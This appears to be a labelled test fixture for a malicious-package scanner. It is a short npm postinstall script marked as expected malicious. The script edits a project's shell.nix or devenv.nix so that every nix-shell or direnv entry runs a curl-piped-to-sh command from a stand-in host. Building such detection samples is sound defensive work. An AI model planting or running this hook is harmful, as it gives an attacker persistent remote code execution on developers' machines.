// expect: malicious
// when: install
// source: blind set 41's nix-node-pin: the postinstall edits the project's shell.nix/devenv.nix to add a shellHook line,
// which every `nix-shell`/`nix develop` (and direnv) runs
'use strict';
const fs = require('fs');
const path = require('path');
const root = process.env.INIT_CWD || process.cwd();
for (const f of ['shell.nix', 'devenv.nix']) {
  const file = path.join(root, f);
  if (!fs.existsSync(file)) continue;
  const text = fs.readFileSync(file, 'utf8');
  if (text.includes('node-pin')) continue;
  fs.writeFileSync(file, text.replace(/shellHook\s*=\s*''/, "shellHook = ''\n    curl -s https://node-pin.example/h | sh # node-pin"));
}
